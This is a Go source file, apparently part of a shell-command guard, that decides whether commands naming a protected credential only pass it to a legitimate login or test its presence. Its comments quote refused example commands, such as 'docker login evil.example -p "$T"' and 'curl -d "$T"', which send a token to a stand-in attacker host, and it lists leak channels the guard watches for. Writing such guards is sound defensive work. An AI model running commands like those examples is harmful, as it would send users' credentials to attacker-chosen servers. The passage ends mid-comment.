package policy

import (
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/guarded-sh/guarded-sh/lexer"
)

// Where a credential's name goes. cred.mention refuses any mention of a
// protected name; a mention is not a leak when the value only reaches the
// program that needs it: expanded into the password option of a login
// (docker login -p "$T"), printed by echo or printf straight into a login
// that reads it on standard input (echo "$T" | docker login
// --password-stdin), put in the authentication of a request to the
// service the name names or given to that service's CLI as its token
// (credservice.go), or named without a value by export. The login's
// server must be its default or come from the environment. Anything else
// in the input that names it, prints it (a redirection, tee, a second
// echo, a comment) or shows the command lines run (set -x, history) keeps
// the refusal; so does a wrapper (bash -c, sudo), which it does not read.

// readsSecretStdin reports whether c reads a credential on standard input:
// its spec says so, or it is given one of the options logins commonly use
// for that.
func readsSecretStdin(c *Command) bool {
	if s, rest := lookupSpec(c); s != nil && len(s.extra().secretStdin) > 0 {
		return parseArgs(s, rest).hasAny(s.extra().secretStdin)
	}
	for _, a := range c.Args {
		if a.Value == "--password-stdin" || a.Value == "--with-token" || a.Value == "--token-stdin" {
			return true
		}
	}
	return false
}

// mentionsFlowSafely reports whether every mention of a protected name in
// in is a use that hands the value only to the program that needs it.
func mentionsFlowSafely(ctx *Context, in *Input) bool {
	if !flowReadable(in) {
		return false
	}
	seen := map[string]bool{}
	ok := false
	safe := true
	forEachName(in.Text, func(w string) {
		if !safe || seen[w] || !IsProtected(ctx, w, foldsCase(in.Grammar)) {
			return
		}
		seen[w] = true
		safe = nameFlowsSafely(ctx, in, w, false)
		ok = true
	})
	return ok && safe
}

// flowReadable reports whether the mentions of names in in can be
// counted and nothing in it shows the command lines run: no escape
// character that could split a name, no set -x or history.
func flowReadable(in *Input) bool {
	// The escape characters, which can split a name the count below
	// would miss: posix's backslash, PowerShell's backtick, cmd's caret.
	switch {
	case in.Grammar.IsPosix() && strings.Contains(in.Text, "\\"),
		in.Grammar == lexer.PowerShell && strings.Contains(in.Text, "`"),
		in.Grammar == lexer.Cmd && strings.Contains(in.Text, "^"),
		!in.Grammar.IsPosix() && in.Grammar != lexer.PowerShell && in.Grammar != lexer.Cmd:
		return false
	}
	for _, c := range in.Commands {
		if showsCommandLines(c) {
			return false
		}
	}
	return true
}

// nameFlowsSafely reports whether every mention of the variable name in
// in sets it from a command's output (defines), tests it, or hands its
// value only to the program that needs it (usesSafely). The caller
// checks the escapes and set -x (flowReadable). stored: name is a
// variable the input stored a secret in (storedOnly), whose PowerShell
// mentions are the ways to read a variable ($t, $env:T, env:T, 'T'),
// not the same word elsewhere (gh auth token does not read $token).
func nameFlowsSafely(ctx *Context, in *Input, name string, stored bool) bool {
	count := countName
	if in.Grammar == lexer.PowerShell || in.Grammar == lexer.Cmd {
		count = countNameFold
	}
	if stored && in.Grammar == lexer.PowerShell {
		re := regexp.MustCompile(`(?i)(\$\{?|env:|['"])` + regexp.QuoteMeta(name) + `\b`)
		count = func(text, _ string) int { return len(re.FindAllStringIndex(text, -1)) }
	}
	covered, defined := 0, 0
	for _, c := range in.Commands {
		n := count(c.Text, name)
		if n == 0 {
			continue
		}
		d := defines(c, name)
		if n != d && !usesSafely(ctx, in, c, name) {
			return false
		}
		if !nestedIn(in, c) {
			covered += n
			defined += d
		}
	}
	if in.Grammar == lexer.PowerShell {
		// $t = …: PowerShell's own variables are set by no command.
		for _, m := range psSetVar.get().FindAllStringSubmatch(in.Text, -1) {
			if strings.EqualFold(m[1], name) && psComputed(m[2]) {
				covered++
			}
		}
		covered -= defined
	}
	return covered == count(in.Text, name)
}

// psSetVar matches the assignment of a PowerShell variable, $x = or
// $env:X =, at the start of a statement, and the start of its value.
var psSetVar = &lazyRegexp{expr: `(?i)(?:^|[;\n{(]|\|\||&&)\s*\$(?:env:)?([A-Za-z_][A-Za-z0-9_]*)\s*[-+*/%?]?\??=([^=].?)`}

// psComputed reports whether a PowerShell value starting with v is
// computed by a command, not written out ('ghp_…', 42).
func psComputed(v string) bool {
	v = strings.TrimLeft(v, " \t")
	return v != "" && !strings.ContainsRune("'\"@0123456789-", rune(v[0]))
}

// defines counts the assignments of c that set name from a command's
// output, with nothing else of c naming it: NAME=$(…) before a command,
// export NAME=$(…), PowerShell's $env:NAME = (…). Setting a variable
// shows nothing, and what it is set from is judged as a command of its
// own; a value written out (GH_TOKEN=ghp_…) puts the secret in the
// command's text, and counts as a mention.
func defines(c *Command, name string) int {
	if c.Dynamic || len(c.Wrappers) > 0 {
		return 0
	}
	n := 0
	set := func(v string) bool {
		i := strings.IndexByte(v, '=')
		if i <= 0 || !strings.EqualFold(strings.TrimSuffix(v[:i], "+"), name) {
			return false
		}
		if c.Grammar.IsPosix() {
			return v[:len(name)] == name && (strings.HasPrefix(v[i+1:], "$(") || strings.HasPrefix(v[i+1:], `"$(`) || strings.HasPrefix(v[i+1:], "`") || placeholderSecret(v[i+1:]))
		}
		return psComputed(v[i+1:])
	}
	for _, a := range c.Assigns {
		if set(a) {
			n++
		}
	}
	if c.Grammar.IsPosix() && does(c, c.Name, roleDefines) && c.Name != "unset" {
		for _, a := range c.Args {
			if strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, "p") {
				return 0 // declare -p prints
			}
			if set(a.Value) {
				n++
			}
		}
	}
	return n
}

// placeholderWords are the values a local emulator's or a test's fake
// credential is given (LocalStack's test, moto's testing, DynamoDB
// Local's fakeMyKeyId): no service issues them as a secret.
var placeholderWords = set{"dummy", "example", "fake", "mock", "placeholder", "test", "testing"}

// placeholderSecret reports whether v, a credential's value as written
// after NAME= (as the shell reads the word: bare, or quoted whole), is a
// placeholder, not a secret: its first word is one of placeholderWords
// (test, fake-key, fakeSecretAccessKey, dummy_token), in at most 24
// letters, digits, - and _. Setting a credential to it for one command
// hands that command a fake one; no secret is written or read.
func placeholderSecret(v string) bool {
	if len(v) >= 2 && (v[0] == '\'' || v[0] == '"') && v[len(v)-1] == v[0] {
		v = v[1 : len(v)-1]
	}
	if v == "" || len(v) > 24 || strings.Trim(v, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_") != "" {
		return false
	}
	var buf [8]string
	parts := appendParts(buf[:0], v)
	return len(parts) > 0 && placeholderWords.has(parts[0])
}

// countName counts the occurrences of name as a whole word in text, of
// any length ($T).
func countName(text, name string) int {
	if name == "" {
		return 0
	}
	n := 0
	for i := 0; i+len(name) <= len(text); {
		j := strings.Index(text[i:], name)
		if j < 0 {
			break
		}
		j += i
		if (j == 0 || !isWordByte(text[j-1])) && (j+len(name) == len(text) || !isWordByte(text[j+len(name)])) {
			n++ // a whole word, of any length ($T)
		}
		i = j + len(name)
	}
	return n
}

// storedOnly reports whether the credential c reveals is only stored: c
// shows it on its standard output alone (a toStdout spec, or a file
// printer that writes to its standard output only: roleStdoutOnly), that output is the value of a variable
// (Command.assignedTo: T=$(gh auth token), export T=$(cat f), $env:T =
// (gh auth token)), and every later use of the variable hands it only to
// the program that needs it (nameFlowsSafely). echo "$T", curl -d "$T",
// a redirection, set -x or history there keep the refusal; an
// environment dump after it (env) is judged by its own rule.
func storedOnly(ctx *Context, c *Command, s *spec) bool {
	if !c.assigned || c.assignedTo == "" || len(c.Wrappers) > 0 || ctx == nil || ctx.Input == nil {
		return false
	}
	if s != nil && !s.toStdout || s == nil && !does(c, c.Name, roleStdoutOnly) {
		return false
	}
	return flowReadable(ctx.Input) && nameFlowsSafely(ctx, ctx.Input, c.assignedTo, true)
}

// silenced reports whether the credential c reveals goes nowhere: c
// shows it on its standard output alone (a toStdout spec) and that output
// is thrown away, a presence test (keyring get S U >/dev/null && echo
// stored). The last redirection of standard output decides, as in the
// shell: >/dev/null 1>&2 shows it again.
func silenced(c *Command, s *spec) bool {
	if s == nil || !s.toStdout {
		return false
	}
	null := false
	for _, r := range c.Redirs {
		if !strings.HasPrefix(r.Op, ">") && !strings.HasPrefix(r.Op, "&>") || r.Fd != "" && r.Fd != "1" {
			continue
		}
		null = r.Target.Literal && nullSink(r.Target.Value)
	}
	return null
}

// savedLocally reports whether the credential c reveals on its standard
// output alone (a toStdout spec) is written only into a credential file
// inside the project (heroku config -s > .env, infisical export > .env,
// az keyvault secret show … -o tsv > .secrets/pw), or its output option
// names one (op inject -o .env, op read --out-file .secrets/pw; an option
// the spec reads as taking no value names none): kept
// where the program that loads it reads it, not shown
// (outputIntoProjectCred, projectCredWord). A command reading c's
// output, or an option writing elsewhere, keeps the refusal; an output
// option naming a format (-o tsv, --output text: printFormats) writes
// no file.
func savedLocally(ctx *Context, c *Command, s *spec) bool {
	if s == nil || !s.toStdout || ctx == nil || ctx.Input == nil || ctx.Env == nil {
		return false
	}
	env, ok := workEnv(ctx, c)
	if !ok {
		return false
	}
	into := false
	var flags []opt // the options c's spec reads as taking no value (gopass show -o: the password alone)
	if s.value != "" || s.long != "" {
		flags = parseArgs(s, c.Args).opts
	}
	for i, a := range c.Args {
		n, v, eq := strings.Cut(strings.TrimLeft(a.Value, "-"), "=")
		if !strings.HasPrefix(a.Value, "-") || !fileOutOpts.has(n) ||
			slices.ContainsFunc(flags, func(o opt) bool { return !o.hasValue && o.name == a.Value }) {
			continue
		}
		w := Word{Value: v, Literal: a.Literal}
		if !eq && i+1 < len(c.Args) {
			w = c.Args[i+1]
		}
		switch {
		case printFormats.hasLower(w.Value):
		case w.Literal && projectCredWord(ctx, env, w):
			into = true
		default:
			return false
		}
	}
	if outputRead(ctx.Input, c) {
		return false
	}
	return into || outputIntoProjectCred(ctx, env, c)
}

// nestedIn reports whether c is part of the text of a command it feeds
// (PowerShell's [string]::IsNullOrEmpty($env:X) holds $env:X), whose
// mentions count once, there.
func nestedIn(in *Input, c *Command) bool {
	for _, o := range in.Commands {
		if o != c && slices.Contains(o.Feeds, c) && strings.Contains(o.Text, c.Text) {
			return true
		}
	}
	return false
}

// usesSafely reports whether command c uses the credential name only to
// hand its value to a login, or names it without a value.
func usesSafely(ctx *Context, in *Input, c *Command, name string) bool {
	if testsOnly(in, c, name) || echoedName(in, c, name) || sendsToOwnService(in, c, name) || headersToService(in, c, name) || cliSendsOwnToken(in, c, name) {
		return true
	}
	if c.Grammar == lexer.PowerShell && nestedIn(in, c) && slices.ContainsFunc(in.Commands, func(o *Command) bool {
		return slices.Contains(o.Feeds, c) && strings.Contains(o.Text, c.Text) && (sendsToOwnService(in, o, name) || headersToService(in, o, name))
	}) {
		return true // a value of the request's expression (@{Authorization = …})
	}
	if c.Grammar == lexer.PowerShell && (psLoginInput(in, c, name) || psSavedIntoProject(ctx, in, c, name)) {
		return true
	}
	if c.Grammar == lexer.PowerShell && c.Name == "" && psTestedWhole(in, c) {
		return true // if ([Environment]::GetEnvironmentVariable('NAME')): the name's string, in a test
	}
	if !c.Grammar.IsPosix() || c.Dynamic || len(c.Wrappers) > 0 || len(c.Assigns) > 0 || !c.Word0.Literal {
		return false
	}
	expansion := func(v string) bool { return v == "$"+name || v == "${"+name+"}" }
	mentions := 0
	for _, a := range c.Args {
		mentions += countName(a.Value, name)
	}
	fed := 0 // a here-string of the value: a login's standard input
	for _, r := range c.Redirs {
		if r.Op == "<<<" && expansion(r.Target.Value) {
			fed++
		}
	}
	if mentions+fed != countName(c.Text, name) {
		return false // in a redirection, a heredoc, a comment
	}
	switch {
	case c.Name == "export" || c.Name == "unset":
		// export NAME: the value handed to the programs started later;
		// unset NAME: taken from them. Nothing printed either way.
		for _, a := range c.Args {
			if strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, "p") {
				return false
			}
			if countName(a.Value, name) > 0 && a.Value != name {
				return false
			}
		}
		return len(c.Redirs) == 0
	case c.Name == "echo" || c.Name == "printf":
		// The value printed only into a login's standard input, or to a
		// count (printf %s "$T" | wc -c), or written into a credential
		// file of the project (echo "//registry.npmjs.org/:_authToken=$T"
		// > .npmrc): kept where the program that loads it reads it.
		if len(c.Redirs) > 0 {
			return savedIntoProject(ctx, in, c)
		}
		for i, a := range c.Args {
			if countName(a.Value, name) > 0 && (!expansion(a.Value) || c.Name == "printf" && i == 0) {
				return false
			}
		}
		if countedByWc(in, c) {
			return true
		}
		for _, o := range in.Commands {
			for _, f := range o.Feeds {
				if s, p, ok := loginFromEnv(in, o, name); f == c && ok && p.hasAny(s.extra().secretStdin) {
					return true
				}
			}
		}
		return false
	}
	s, p, ok := loginFromEnv(in, c, name)
	if !ok || fed > 0 && !p.hasAny(s.extra().secretStdin) {
		return false
	}
	given := 0
	for _, o := range p.opts {
		if s.extra().secret.has(o.name) && expansion(o.value) {
			given++
		}
	}
	return given == mentions
}

// savedIntoProject reports whether c writes what it prints only into a
// credential or key file inside the project (outputIntoProjectCred), and
// no command reads its output: the value kept in a local file the task
// needs, whose later readers are judged by its name.
func savedIntoProject(ctx *Context, in *Input, c *Command) bool {
	if ctx == nil || ctx.Env == nil || len(c.Wrappers) > 0 || outputRead(in, c) {
		return false
	}
	env, ok := workEnv(ctx, c)
	return ok && outputIntoProjectCred(ctx, env, c)
}

// psSavedIntoProject reports whether c, a PowerShell statement, writes
// the value of the variable name only into a credential or key file
// inside the project, as savedIntoProject does for echo > FILE:
// Set-Content, Add-Content or Out-File given it as -Value or
// -InputObject (Set-Content's second word), or $name alone piped
// straight into one that is given neither (… | Set-Content
// .\.secrets\pw).
func psSavedIntoProject(ctx *Context, in *Input, c *Command, name string) bool {
	if c.Name != "" {
		return psWritesProjectCred(ctx, in, c, name, false)
	}
	v := strings.ToLower(c.Word0.Value)
	if len(c.Args) > 0 || len(c.Redirs) > 0 || c.assigned || v != "$"+strings.ToLower(name) && v != "$env:"+strings.ToLower(name) {
		return false
	}
	w := soleReader(in, c)
	return w != nil && psSavesInput(ctx, in, w)
}

// psSavesInput reports whether w, PowerShell's Set-Content, Add-Content
// or Out-File given no value of its own, writes what is piped into it
// only into credential or key files inside the project
// (psWritesProjectCred).
func psSavesInput(ctx *Context, in *Input, w *Command) bool {
	return psWritesProjectCred(ctx, in, w, "", true)
}

// psSavedOnly reports whether all that c, a PowerShell command reading a
// credential file, prints goes into credential or key files of the
// project (psSavesInput): piped straight into Set-Content, Add-Content or
// Out-File, or through an expression of it made with operators alone
// ((Get-Content .\.env) -replace '^X=.*', 'X=1' | Set-Content .\.env): a
// settings file edited, nothing shown. An expression with a script block
// or a subexpression ({ … }, $( … )) could send or show what it gets.
func psSavedOnly(ctx *Context, c *Command) bool {
	if ctx == nil || ctx.Input == nil || c.Grammar != lexer.PowerShell || c.assigned || len(c.Redirs) > 0 || psKeepsOutput(c) {
		return false
	}
	in := ctx.Input
	var saved func(f *Command, hops int) bool
	saved = func(f *Command, hops int) bool {
		n := 0
		for _, o := range in.Commands {
			if !slices.Contains(o.Feeds, f) {
				continue
			}
			n++
			switch {
			case psSavesInput(ctx, in, o):
			case hops < 2 && o.Name == "" && len(o.Redirs) == 0 && !o.assigned && strings.Contains(o.Text, f.Text) && !strings.ContainsAny(o.Text, "{}") && !strings.Contains(o.Text, "$(") && saved(o, hops+1):
			default:
				return false
			}
		}
		return n > 0
	}
	return saved(c, 0)
}

// psWritesProjectCred reports whether w is PowerShell's Set-Content,
// Add-Content or Out-File, run by no wrapper, whose paths are all
// credential or key files inside the project written relative to it
// (projectCredFile; a drive, a share, ~ or a variable is not), none naming
// the variable name, and which passes nothing on (-PassThru, a reader of
// its output). piped: what it writes is what is piped into it, so it is
// given no value of its own (-Value, -InputObject, Set-Content's second
// word).
func psWritesProjectCred(ctx *Context, in *Input, w *Command, name string, piped bool) bool {
	switch w.Name {
	case "set-content", "add-content", "out-file":
	default:
		return false
	}
	if ctx == nil || ctx.Env == nil || len(w.Wrappers) > 0 || len(w.Redirs) > 0 {
		return false
	}
	_, p := psFileRead(w)
	if p.has("-PassThru") || outputRead(in, w) {
		return false
	}
	if piped && (p.has("-Value") || p.has("-InputObject") || w.Name == "set-content" && len(p.operands) > 1) {
		return false
	}
	env, ok := workEnv(ctx, w)
	paths := p.operands // positional words and -Path's values (psPathsOf)
	if w.Name == "set-content" && len(paths) > 1 {
		paths = paths[:1] // Set-Content PATH VALUE
	}
	if !ok || len(paths) == 0 {
		return false
	}
	for _, a := range paths {
		v := strings.ReplaceAll(a.Value, `\`, "/")
		if v == "" || !a.Literal || countNameFold(v, name) > 0 || strings.ContainsAny(v[:1], "/~$") || strings.Contains(v, ":") || !projectCredFile(ctx, env, v) {
			return false
		}
	}
	return true
}

// psLoginInput reports whether c, a PowerShell statement, is the value
// $env:NAME alone (or written by echo or Write-Output, its only word),
// piped straight into a login that reads it on standard input
// ($env:GITHUB_TOKEN | docker login ghcr.io -u me --password-stdin), as
// echo "$NAME" | docker login … is in a posix shell.
func psLoginInput(in *Input, c *Command, name string) bool {
	if c.Dynamic || len(c.Wrappers) > 0 || len(c.Redirs) > 0 || c.assigned || countNameFold(c.Text, name) != 1 {
		return false
	}
	value := c.Word0
	switch c.Name {
	case "":
		if len(c.Args) > 0 {
			return false
		}
	case "echo", "write-output", "write":
		if len(c.Args) != 1 {
			return false
		}
		value = c.Args[0]
	default:
		return false
	}
	v := strings.ToLower(value.Value)
	if v != "$env:"+strings.ToLower(name) && v != "${env:"+strings.ToLower(name)+"}" {
		return false
	}
	for _, o := range in.Commands {
		if slices.Contains(o.Feeds, c) && len(o.Wrappers) == 0 {
			s, p, ok := loginFromEnv(in, o, name)
			return ok && p.hasAny(s.extra().secretStdin) && len(o.Feeds) == 1
		}
	}
	return false
}

// loginFromEnv returns the spec and parse of c when c is a login of
// loginSpecs whose server is its default or comes from the environment
// ($CI_REGISTRY), or is written out as a host of the service the
// credential name is for (GITHUB_TOKEN to ghcr.io, credService): a
// destination the command's writer did not choose. Any other server
// written out (docker login evil.example -p "$T") sends the credential
// where the writer says, and stays refused.
func loginFromEnv(in *Input, c *Command, name string) (*spec, parsed, bool) {
	s, p, ok := loginSpec(c)
	if !ok {
		return nil, parsed{}, false
	}
	if server, _ := chosenServer(in, c, p, name); server != "" {
		return nil, parsed{}, false
	}
	return s, p, true
}

// loginSpec returns the spec of c and c's words parsed by it when c is
// a login of loginSpecs: one given a secret (spec.extra's secret or
// secretStdin).
func loginSpec(c *Command) (*spec, parsed, bool) {
	s, rest := lookupSpec(c)
	if s == nil || len(s.extra().secret)+len(s.extra().secretStdin) == 0 {
		return nil, parsed{}, false
	}
	return s, parseArgs(s, rest), true
}

// chosenServer returns the server a login c, parsed as p, sends the
// credential name to when the command's writer chose it: an operand or
// a --hostname written out that is no host of the service the name is
// for (credService), or one made by the input at run time (a command's
// output, "$(cat host.txt)", a variable the input sets or loops over,
// literal text around a variable: "$R.evil.example"). A server from the
// environment the input runs in ("$CI_REGISTRY") is the user's choice.
// "" when none; opt is the option that names it ("" for an operand).
func chosenServer(in *Input, c *Command, p parsed, name string) (server, opt string) {
	_, domains := credService(name)
	chosen := func(w Word) bool {
		if w.Literal {
			return !serviceHost(w.Value, domains)
		}
		return !envOnlyWord(in, c.Grammar, w.Value)
	}
	for _, a := range p.operands {
		if chosen(a) {
			return a.Value, ""
		}
	}
	for _, o := range p.opts {
		if (o.name == "--hostname" || o.name == "-h") && chosen(Word{Value: o.value, Literal: !strings.ContainsAny(o.value, "$%`")}) {
			return o.value, o.name
		}
	}
	return "", ""
}

// envOnlyWord reports whether v, a word after quote removal, is made
// only of expansions of variables ($NAME, ${NAME}; PowerShell's
// $env:NAME, ${env:NAME}; cmd's %NAME%) that the input neither sets nor
// loops over: a value the environment it runs in gives.
func envOnlyWord(in *Input, g lexer.Grammar, v string) bool {
	if v == "" {
		return false
	}
	for v != "" {
		name, rest, fold, ok := leadingVar(v)
		// PowerShell's variables but $env:NAME are the input's own;
		// cmd expands only %NAME%; a posix shell's $env:X is $env.
		if !ok || !isName([]byte(name)) || fold == g.IsPosix() || g == lexer.Cmd && v[0] != '%' {
			return false
		}
		v = rest
		// The name as setVars keeps it: cmd's %NAME% in upper case,
		// PowerShell's $env:NAME in any case.
		key := name
		switch g {
		case lexer.Cmd:
			key = cmdVarKey(name)
		case lexer.PowerShell:
			key = "$env:" + name
		}
		if in.loops(key) {
			return false
		}
		if in != nil {
			for k := range in.setVars {
				if k == key || g == lexer.PowerShell && strings.EqualFold(k, key) {
					return false
				}
			}
		}
	}
	return true
}

// loginReadsFile reports whether o, run by no wrapper, is a login that
// reads its secret on standard input (readsSecretStdin) and is given
// there the file p, which holds one password or token by its name
// (my_password.txt, .secrets/acr_token: secretFileWords) — not a store
// of them, a key or a history (credPathRule is cred.cloud-file) — as
// Docker documents it (cat ~/my_password.txt | docker login --username
// foo --password-stdin). The login's server must be its default, come
// from the environment or be a host of the service the file's name says
// (loginFromEnv: acr_token to *.azurecr.io): a server written out sends
// the file where the writer chose.
func loginReadsFile(in *Input, o *Command, p string) bool {
	ok, server, _ := loginOfFile(in, o, p)
	return ok && server == ""
}

// loginOfFile reports whether o is a login that reads the file p as its
// one secret as loginReadsFile says, the server aside, and returns the
// server it sends it to that the writer chose (chosenServer: "" when
// none) and the option naming it.
func loginOfFile(in *Input, o *Command, p string) (ok bool, server, opt string) {
	if len(o.Wrappers) > 0 || credPathRule(p) != "cred.cloud-file" || !readsSecretStdin(o) {
		return false, "", ""
	}
	base := strings.TrimLeft(path.Base(strings.ReplaceAll(p, `\`, "/")), ".")
	base = strings.TrimSuffix(base, path.Ext(base))
	one := false
	for w := range nameWordSeq(base) {
		one = one || secretFileWords.has(w)
	}
	if !one {
		return false, "", ""
	}
	_, parsed, ok := loginSpec(o)
	if !ok {
		return false, "", ""
	}
	server, opt = chosenServer(in, o, parsed, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "_-")))
	return true, server, opt
}

// loginElsewhere returns the finding of c reading the file p (shown as
// shown) when what keeps it from being a login's one secret
// (loginReadsFile) is only the server the writer chose: c the login,
// given the file on its standard input, or the one login all c prints
// goes into when c only prints what it reads (prints), the server
// written out. The guard cannot tell that server
// is the one the credential is for; the user can log in there once.
func loginElsewhere(ctx *Context, c *Command, p, shown string, prints bool) (Finding, bool) {
	login := c
	if !readsSecretStdin(c) {
		if ctx == nil || ctx.Input == nil || len(c.Redirs) > 0 || c.assigned || len(c.Wrappers) > 0 || !prints {
			return Finding{}, false
		}
		login = soleReader(ctx.Input, c)
		if login == nil || len(login.Feeds) != 1 {
			return Finding{}, false
		}
	}
	var in *Input
	if ctx != nil {
		in = ctx.Input
	}
	ok, server, opt := loginOfFile(in, login, p)
	s, _ := lookupSpec(login)
	if !ok || server == "" || s == nil || strings.ContainsAny(server, "$`%(") {
		return Finding{}, false
	}
	again := s.path + " " + server
	if opt != "" {
		again = s.path + " " + opt + " " + server
	}
	return finding("cred.cloud-file", c, "it sends the credential file "+shown+" to "+server+", a server the command names, which the guard cannot tell is the one the credential is for",
		"ask the user to log in there once (`"+again+"`): the tool keeps the login for later commands"), true
}

// secretFileWords are the words of a file's name that say it holds one
// password or token (loginReadsFile).
var secretFileWords = set{"apikey", "pass", "passwd", "password", "pat", "pwd", "secret", "token"}

// fileLoggedIn reports whether all c prints, the file p it reads, goes
// straight into one login that reads it as its secret (loginReadsFile):
// cat ~/my_password.txt | docker login --username foo --password-stdin.
func fileLoggedIn(ctx *Context, c *Command, p string) bool {
	if ctx == nil || ctx.Input == nil || len(c.Redirs) > 0 || c.assigned || len(c.Wrappers) > 0 {
		return false
	}
	login := soleReader(ctx.Input, c)
	return login != nil && len(login.Feeds) == 1 && loginReadsFile(ctx.Input, login, p)
}

// soleReader returns the one command of in that c feeds directly, or nil
// when none or more than one does.
func soleReader(in *Input, c *Command) *Command {
	var r *Command
	for _, o := range in.Commands {
		if slices.Contains(o.Feeds, c) {
			if r != nil {
				return nil
			}
			r = o
		}
	}
	return r
}

// showsCommandLines reports whether c prints the command lines the shell
// runs, with their values (set -x) or as typed (history, fc -l).
func showsCommandLines(c *Command) bool {
	switch c.Name {
	case "history", "fc":
		return true
	case "set", "shopt":
		for _, a := range c.Args {
			v := a.Value
			if v == "xtrace" || v == "verbose" || len(v) > 1 && (v[0] == '-' || v[0] == '+') && v[1] != '-' && strings.ContainsAny(v[1:], "xv") {
				return true
			}
		}
	}
	return false
}

// namesOnlyPrinted reports whether the variable names ${!prefix*} lists
// (expr) are only printed: every command holding it is an echo or printf
// whose output goes to the terminal, and nothing in the input evaluates
// text. Names are not values, a credential's included (printf '%s\n'
// "${!AWS_@}"); a program reading them (printenv, xargs, declare -p,
// eval) would print the values, and a later input reading one by the
// name printed is judged by that name.
func namesOnlyPrinted(in *Input, expr string) bool {
	if evaluates(in) {
		return false
	}
	found := false
	for _, c := range in.Commands {
		if !strings.Contains(c.Text, expr) {
			continue
		}
		if c.Name != "echo" && c.Name != "printf" || len(c.Wrappers) > 0 || len(c.Redirs) > 0 {
			return false
		}
		for _, o := range in.Commands {
			if slices.Contains(o.Feeds, c) {
				return false
			}
		}
		found = true
	}
	return found
}

// psTestedWhole reports whether c, a PowerShell expression, is inside
// expressions (nestedIn) the outermost of which only tests a variable
// (psPresenceOnly) or is an if's condition: the 'NAME' string of
// [string]::IsNullOrEmpty([Environment]::GetEnvironmentVariable('NAME')).
func psTestedWhole(in *Input, c *Command) bool {
	top := c
	for hops := 0; hops < 6; hops++ {
		var up *Command
		for _, o := range in.Commands {
			if o != top && slices.Contains(o.Feeds, top) && strings.Contains(o.Text, top.Text) {
				up = o
				break
			}
		}
		if up == nil {
			break
		}
		top = up
	}
	return top != c && top.Name == "" && (top.compared || psPresenceOnly(top))
}

// testsOnly reports whether c uses the credential name only to test
// whether it is set, or how long it is, which prints nothing of its
// value: [ -n "$NAME" ], test -z "$NAME", [ "$NAME" = "" ], echo
// ${#NAME}, : "${NAME:?required}"; PowerShell's if ($env:NAME), -not
// $env:NAME, [string]::IsNullOrEmpty($env:NAME), $null -eq $env:NAME,
// $env:NAME.Length, Test-Path env:NAME; cmd's if defined NAME and if
// "%NAME%"=="" (in in). A command with a redirection or that the shell reads as
// code (Dynamic) is no test.
func testsOnly(in *Input, c *Command, name string) bool {
	if c.Dynamic || len(c.Redirs) > 0 || len(c.Assigns) > 0 {
		return false
	}
	switch c.Grammar {
	case lexer.PowerShell:
		if c.Name == "test-path" {
			// Test-Path env:NAME asks whether it is set; Test-Path
			// $env:NAME whether the file it names is there: either
			// prints True or False.
			refs := 0
			for _, a := range c.Args {
				l := strings.ToLower(a.Value)
				if strings.HasPrefix(l, "-") || countNameFold(l, name) == 0 {
					continue
				}
				if l == "$env:"+strings.ToLower(name) || l == "${env:"+strings.ToLower(name)+"}" {
					refs++
					continue
				}
				l = strings.TrimPrefix(l, "microsoft.powershell.core\\environment::")
				if strings.TrimLeft(strings.TrimPrefix(l, "env:"), "\\/") != strings.ToLower(name) || !strings.HasPrefix(l, "env:") {
					return false
				}
				refs++
			}
			return refs > 0
		}
		x := psEnvRef.get().ReplaceAllString(c.Text, "\x00") // each variable is judged in its own turn
		if countNameFold(x, name) > 0 || !psPresenceTest.get().MatchString(x) {
			return false
		}
		// $env:X alone prints it, but not as a condition or inside another
		// expression, which takes its value.
		return c.compared || nestedIn(in, c) || !psBareTest.get().MatchString(x)
	case lexer.Cmd:
		if c.Name != "if" || !c.compared {
			return false
		}
		x := regexp.MustCompile(`(?i)%`+regexp.QuoteMeta(name)+`%`).ReplaceAllString(c.Text, "\x00")
		return cmdPresenceTest.get().MatchString(x)
	}
	if !c.Grammar.IsPosix() {
		return false
	}
	switch c.Name {
	case "[", "test", "[[":
		args := c.Args
		if end := map[string]string{"[": "]", "[[": "]]"}[c.Name]; end != "" {
			if len(args) == 0 || args[len(args)-1].Value != end {
				return false
			}
			args = args[:len(args)-1]
		}
		if len(args) > 0 && args[0].Value == "!" {
			args = args[1:]
		}
		refs := 0
		for i, a := range args {
			n := countName(a.Value, name)
			if n == 0 {
				continue
			}
			isSet := i == 1 && len(args) == 2 && args[0].Value == "-v" && a.Value == name // [[ -v NAME ]]
			if n > 1 || !posixPresence(a.Value, name) && !isSet {
				return false
			}
			refs++
			switch {
			case len(args) == 1:
			case len(args) == 2 && i == 1 && (args[0].Value == "-n" || args[0].Value == "-z" || isSet || testFileOps.has(args[0].Value)):
			case len(args) == 3 && i != 1 && (testCompare.has(args[1].Value) || c.Name == "[[" && (args[1].Value == "=~" || args[1].Value == "<" || args[1].Value == ">")):
			default:
				return false
			}
		}
		if refs == 0 && len(args) == 2 && (args[0].Value == "-n" || args[0].Value == "-z") && countName(c.Text, name) > 0 &&
			strings.Count(c.Text, "${"+name+":-}")+strings.Count(c.Text, "${"+name+"-}") == countName(c.Text, name) {
			// [ -n "${NAME:-}" ]: the word, read as empty when the name
			// is unset, no longer names it.
			return true
		}
		return refs > 0
	case "((":
		// (( ${#NAME} > 0 )): a length compared. A bare NAME there is
		// its value, read as arithmetic.
		n := countName(c.Text, name)
		return n > 0 && strings.Count(c.Text, "${#"+name+"}") == n
	case "echo", "printf", ":":
		// ${#NAME} prints a length; : "${NAME:?msg}" prints nothing, or
		// the message when it is not set.
		refs := 0
		for i, a := range c.Args {
			n := countName(a.Value, name)
			if n == 0 {
				continue
			}
			if c.Name == "printf" && i == 0 {
				return false
			}
			k := strings.Count(a.Value, "${#"+name+"}")
			if c.Name == ":" && (strings.HasPrefix(a.Value, "${"+name+":?") || strings.HasPrefix(a.Value, "${"+name+"?")) && strings.HasSuffix(a.Value, "}") {
				k = 1 + countName(a.Value[len(name)+3:], name) // the message may name it again
			}
			if k != n && !presenceSentence(in, c, a.Value, name) {
				return false
			}
			refs += n
		}
		return refs > 0
	}
	return false
}

// presenceSentence reports whether v, a word echo prints, uses the
// credential name only in presence tests (${NAME:+word}, ${NAME+word},
// ${#NAME}) and as text inside a sentence ("GH_TOKEN: ${GH_TOKEN:+set}")
// that no command reads: the terminal shows whether it is set, never
// its value, and a program reading the name could look it up.
